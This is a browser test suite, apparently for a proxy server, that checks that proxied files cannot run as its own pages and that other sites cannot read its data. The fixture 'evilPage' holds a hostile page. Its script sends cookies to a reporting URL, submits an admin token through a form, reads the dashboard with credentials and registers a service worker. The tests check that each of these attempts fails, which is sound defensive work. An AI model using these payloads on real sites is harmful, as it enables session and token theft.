/** Proxied files in a browser: they come from the edge's address, but never act as its pages. */

import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { launch } from 'puppeteer-core';
import { fetchAll } from '../../fixtures/clients/http-client.ts';
import { sha256 } from '../../fixtures/origins/content.ts';
import { isLive, logIn, openPage } from '../../fixtures/pages/edge-pages.ts';
import { FIREFOX, firefoxOrComplain } from '../../fixtures/pages/firefox.ts';
import { browserOrComplain, CHROMIUM, launchBrowser } from '../../fixtures/pages/ui.ts';
import { EdgeProcess } from '../../fixtures/programs/processes.ts';
import {
  DISK_IMAGE,
  OPTIONS,
  StrangersStage,
  TOKEN,
  WEAKENING,
} from '../../fixtures/stages/strangers-stage.ts';
import { testsWhere } from '../../fixtures/tests-where.ts';
import { LONGEST_WAIT_MS, until } from '../../fixtures/until.ts';

const withBrowser = testsWhere(browserOrComplain('files of strangers in a browser'));
const withFirefox = testsWhere(firefoxOrComplain('saving a file of an edge with Firefox'));

const stage = new StrangersStage();
/** A browser for all tests: each opens a window that shares nothing with others. */
let browser: Browser;

withBrowser.beforeAll(async () => {
  browser = await launchBrowser(CHROMIUM);
});
withBrowser.afterAll(() => browser?.close());

/** Servers of a page that links to a file: the page's own site, and the edge. */
const LISTS: [by: string, addressOf: (url: string) => string][] = [
  ['another site', (url) => url],
  ['a proxied page', (url) => stage.edge.prefixed(url)],
];

/** Adds a page that links to a file behind the edge. @returns the page's address at the origin */
function addList(path: string): string {
  const body = Buffer.from(
    `<!doctype html><title>files</title><a href="${stage.edge.prefixed(stage.origin.url(path))}">image.iso</a>`,
  );
  return stage.origin.add('/index.html', { body, headers: { 'content-type': 'text/html' } });
}

/**
 * Returns a page that tries everything that a page of the edge may do, and reports successes to its
 * origin.
 */
function evilPage(tell: string): string {
  return `<!doctype html><title>evil</title>
<p id="token">Administration token</p>
<form id="form" action="/-/dashboard/login" method="post"><input name="token" value="${TOKEN}">
<button>Log in</button></form>
<form id="steal" action="${tell}?form"><input name="token"><button>Log in again</button></form>
<iframe name="dashboard" src="/-/dashboard"></iframe>
<script src="/${tell.replace('tell', 'evil.js')}"></script>
<script>
document.title = 'script ran';
new Image().src = '${tell}?script&cookie=' + document.cookie;
fetch('/-/dashboard/data', { credentials: 'include' }).then((r) => r.text()).then((text) => {
  new Image().src = '${tell}?data=' + text.length;
});
fetch('/-/status').then(() => { new Image().src = '${tell}?status'; });
navigator.serviceWorker.register('/${tell.replace('tell', 'evil.js')}', { scope: '/' });
</script>
<meta http-equiv="refresh" content="0;url=${tell}?refresh">
<img src="/${tell.replace('tell', 'seen.svg')}">`;
}

withBrowser.describe('in Chromium', () => {
  withBrowser.beforeAll(async () => {
    stage.origin.add('/evil.js', {
      body: Buffer.from(`globalThis.evil = true; if (globalThis.document) document.title = 'ran';`),
      headers: { ...WEAKENING, 'content-type': 'text/javascript' },
    });
    stage.origin.add('/evil.html', {
      body: Buffer.from(evilPage(stage.origin.url('/tell'))),
      headers: { ...WEAKENING, 'content-type': 'text/html' },
    });
  });

  /** Lists the requests by which the evil page has reported successes. */
  const told = () =>
    stage.origin.requests.map(({ url }) => url).filter((url) => /tell/.test(url ?? ''));
  const loggedIn = async () => {
    const { context, page } = await openPage(browser);
    await logIn(page, stage.edge, TOKEN);
    await isLive(page);
    return { context, page };
  };
  /** Presses a form's button. Resolves when the browser reports that it has blocked the form. */
  const pressInVain = (page: Page, form: string) =>
    Promise.all([
      page.waitForEvent('console', (message) => /Blocked form submission/.test(message.text())),
      page.locator(`${form} button`).click(),
    ]);

  withBrowser.test(
    'a proxied page runs no script, reads no figure, sends no form, and frames no dashboard',
    async () => {
      const { context, page } = await loggedIn();
      const cookies = await context.cookies();
      expect(cookies).toHaveLength(1);
      await page.goto(stage.edge.prefixed(stage.origin.url('/evil.html')), { waitUntil: 'load' });
      await until(() => stage.origin.requests.some(({ url }) => url === '/seen.svg'));
      expect(await page.title()).toBe('evil');
      expect(await page.evaluate(() => [self.origin, 'evil' in globalThis])).toEqual([
        'null',
        false,
      ]);
      expect(await page.evaluate(() => document.scripts.length)).toBe(2);
      const framed = page.frames().find((frame) => frame.name() === 'dashboard');
      expect(await framed?.content()).not.toMatch(/Dashboard|Administration token/);
      for (const form of ['#form', '#steal']) await pressInVain(page, form);
      expect(told()).toEqual([]);
      expect(await context.cookies()).toEqual(cookies);
      await context.close();
    },
  );

  withBrowser.test(
    'the dashboard loads no script of a stranger, though its origin is the same',
    async () => {
      const { context, page } = await loggedIn();
      const outcome = await page.evaluate(
        (src) =>
          new Promise((resolve) => {
            const script = document.createElement('script');
            script.onload = () => resolve('loaded');
            script.onerror = () => resolve('refused');
            script.src = src;
            document.head.append(script);
          }),
        `/${stage.origin.url('/evil.js')}`,
      );
      expect([outcome, await page.evaluate(() => 'evil' in globalThis)]).toEqual([
        'refused',
        false,
      ]);
      await context.close();
    },
  );

  withBrowser.test(
    'nothing becomes a service worker, not even for a page of the edge',
    async () => {
      const { context, page } = await loggedIn();
      const failed = await page.evaluate(
        (src) =>
          navigator.serviceWorker.register(src, { scope: '/' }).then(
            () => 'registered',
            (error: Error) => error.name,
          ),
        `/${stage.origin.url('/evil.js')}`,
      );
      expect(failed).not.toBe('registered');
      const { status } = await fetchAll(stage.edge.prefixed(stage.origin.url('/evil.js')), {
        headers: { 'service-worker': 'script' },
      });
      expect(status).toBe(400);
      await context.close();
    },
  );

  withBrowser.test.each(['/image.iso', '/tunnel.iso'])(
    'a file that is opened by its address is saved: %s',
    async (path) => {
      const { context, page } = await openPage(browser);
      const saved = page.waitForEvent('download');
      // The tab starts a download instead of navigating, so `goto` fails.
      await page.goto(stage.edge.prefixed(stage.origin.url(path))).catch(() => {});
      const file = await (await saved).path();
      expect(sha256(await readFile(file))).toBe(sha256(DISK_IMAGE));
      await context.close();
    },
  );

  withBrowser.test.each(LISTS)('a file that %s links to is saved', async (_, addressOf) => {
    const { context, page } = await openPage(browser);
    await page.goto(addressOf(addList('/image.iso')));
    const saved = page.waitForEvent('download');
    await page.getByText('image.iso').click();
    expect(sha256(await readFile(await (await saved).path()))).toBe(sha256(DISK_IMAGE));
    await context.close();
  });
});

withFirefox.describe('Firefox saves a file', () => {
  let firefox: Awaited<ReturnType<typeof launch>>;
  withFirefox.beforeAll(async () => {
    firefox = await launch({
      browser: 'firefox',
      executablePath: FIREFOX,
      headless: true,
      timeout: LONGEST_WAIT_MS,
      env: { ...process.env, HOME: stage.folder },
      extraPrefsFirefox: {
        'browser.download.folderList': 2,
        'browser.download.dir': stage.folder,
        'browser.helperApps.neverAsk.saveToDisk': 'application/octet-stream',
      },
    });
  });
  withFirefox.afterAll(() => firefox?.close());

  const isSaved = async (name: string) => {
    const saved = () => readFile(join(stage.folder, name)).catch(() => Buffer.alloc(0));
    await until(async () => (await saved()).length === DISK_IMAGE.length);
    expect(sha256(await saved())).toBe(sha256(DISK_IMAGE));
  };

  withFirefox.test('that is opened by its address', async () => {
    const page = await firefox.newPage();
    // The browser opens no page that could be waited for.
    page.goto(stage.edge.prefixed(stage.origin.url('/image.iso')), { timeout: 0 }).catch(() => {});
    await isSaved('image.iso');
  });

  withFirefox.test.each(LISTS)('that %s links to', async (by, addressOf) => {
    const name = `${by.replaceAll(' ', '-')}.iso`;
    const headers = { 'content-type': 'application/octet-stream' };
    stage.origin.add(`/${name}`, { body: DISK_IMAGE, headers });
    const page = await firefox.newPage();
    page.setDefaultTimeout(LONGEST_WAIT_MS);
    await page.goto(addressOf(addList(`/${name}`)));
    await page.click('a');
    await isSaved(name);
  });
});

withBrowser.test('a page of another site reads of a file what its origin allows', async () => {
  const { context, page } = await openPage(browser);
  const headers = { 'access-control-expose-headers': 'Content-Range' };
  const open = { ...headers, 'access-control-allow-origin': '*' };
  const bodies = { body: DISK_IMAGE };
  const urls = [
    stage.origin.add('/open.iso', { ...bodies, headers: open }),
    stage.origin.add('/open-whole.iso', { ...bodies, headers: open, noRanges: true }),
    stage.origin.add('/closed.iso', { ...bodies, headers }),
  ].map((url) => stage.edge.prefixed(url));
  const body = Buffer.from('<!doctype html><title>any site</title>');
  await page.goto(
    stage.origin.add('/any.html', { body, headers: { 'content-type': 'text/html' } }),
  );
  const read = await page.evaluate(
    (all) =>
      Promise.all(
        all.map((url) =>
          // The condition needs a preflight.
          fetch(url, { headers: { range: 'bytes=2-5', 'if-none-match': '"other"' } }).then(
            async (answer) => [
              answer.status,
              answer.headers.get('content-range'),
              [...new Uint8Array(await answer.arrayBuffer())].slice(0, 4),
            ],
            () => 'failed',
          ),
        ),
      ),
    urls,
  );
  const part = [206, `bytes 2-5/${DISK_IMAGE.length}`, [...DISK_IMAGE.subarray(2, 6)]];
  // The edge has the second one's part from the one stream that its origin sends.
  expect(read).toEqual([part, part, 'failed']);
  await context.close();
});

withBrowser.describe('an edge of one user', () => {
  let own: EdgeProcess;
  let token: string;
  withBrowser.beforeAll(async () => {
    const file = stage.at('local-token');
    own = await EdgeProcess.start([...OPTIONS, '--local-token-file', file]);
    token = (await readFile(file, 'utf8')).trim();
    const body = Buffer.from('{"of":"the user"}');
    stage.origin.add('/secret', { body, headers: { 'content-type': 'application/json' } });
    const page = Buffer.from('<!doctype html><title>any site</title>');
    stage.origin.add('/site.html', { body: page, headers: { 'content-type': 'text/html' } });
  });
  withBrowser.afterAll(() => own?.stop('SIGKILL'));

  withBrowser.test('gives pages of other sites nothing, whatever way they ask', async () => {
    const { context, page } = await openPage(browser);
    await page.goto(stage.origin.url('/site.html'));
    const fetches = () => stage.origin.requests.filter(({ url }) => url === '/secret').length;
    const before = fetches();
    const paths = [`/${stage.origin.url('/secret')}`, '/-/status', '/-/edges', '/-/metrics', '/'];
    for (const path of paths) {
      const outcomes = await page.evaluate(
        (url) =>
          Promise.all([
            ...(['cors', 'no-cors'] as const).map((mode) =>
              fetch(url, { mode, credentials: 'include' }).then(
                ({ type }) => type,
                () => 'failed',
              ),
            ),
            ...['img', 'script', 'link', 'video'].map(
              (tag) =>
                new Promise((resolve) => {
                  const element = document.createElement(tag);
                  element.onload = () => resolve('loaded');
                  element.onerror = () => resolve('failed');
                  Object.assign(
                    element,
                    tag === 'link' ? { rel: 'stylesheet', href: url } : { src: url },
                  );
                  document.body.append(element);
                }),
            ),
          ]),
        own.url + path,
      );
      expect({ path, outcomes: new Set(outcomes) }).toEqual({
        path,
        outcomes: new Set(['failed']),
      });
    }
    expect(fetches()).toBe(before);
    const refused = await fetchAll(own.prefixed(stage.origin.url('/secret')), {
      headers: { 'sec-fetch-site': 'cross-site' },
    });
    expect([refused.status, JSON.parse(refused.body.toString()).code]).toEqual([403, 'other-site']);
    await context.close();
  });

  withBrowser.test('admits its user by a typed address, and programs with the token', async () => {
    const { context, page } = await openPage(browser);
    await page.goto(own.prefixed(stage.origin.url('/secret')));
    expect(await page.textContent('body')).toContain('of');
    const headers = { 'x-millrace-token': token, origin: 'https://evil.example' };
    const { status } = await fetchAll(own.prefixed(stage.origin.url('/secret')), { headers });
    expect(status).toBe(200);
    await page.goto(`${own.url}/`);
    await page.getByRole('textbox').fill(stage.origin.url('/secret'));
    await page.keyboard.press('Enter');
    await page.waitForURL(/link=/);
    await context.close();
  });

  withBrowser.test('passes no allowance for other sites on, and answers no preflight', async () => {
    const url = own.prefixed(stage.origin.url('/image.iso'));
    for (const path of ['/image.iso', '/tunnel.iso']) {
      const got = await fetchAll(own.prefixed(stage.origin.url(path)), {
        headers: { 'x-millrace-token': token },
      });
      expect([got.status, got.headers['access-control-allow-origin']]).toEqual([200, undefined]);
      expect(got.headers['cross-origin-resource-policy']).toBe('same-origin');
    }
    const asks = { origin: 'https://a.example', 'access-control-request-method': 'GET' };
    const headers = { ...asks, 'x-millrace-token': token };
    expect((await fetchAll(url, { method: 'OPTIONS', headers })).status).toBe(405);
    expect((await fetchAll(url, { method: 'OPTIONS', headers: asks })).status).toBe(403);
  });

  withBrowser.test('answers nothing to a name that was pointed at it, on any path', async () => {
    const headers = { host: 'rebound.example' };
    for (const path of ['/-/status', '/-/edges', '/-/metrics', '/-/live', '/-/dashboard', '/']) {
      const { status, headers: answered } = await fetchAll(own.url + path, { headers });
      expect([path, status, answered['access-control-allow-origin']]).toEqual([
        path,
        421,
        undefined,
      ]);
    }
  });
});
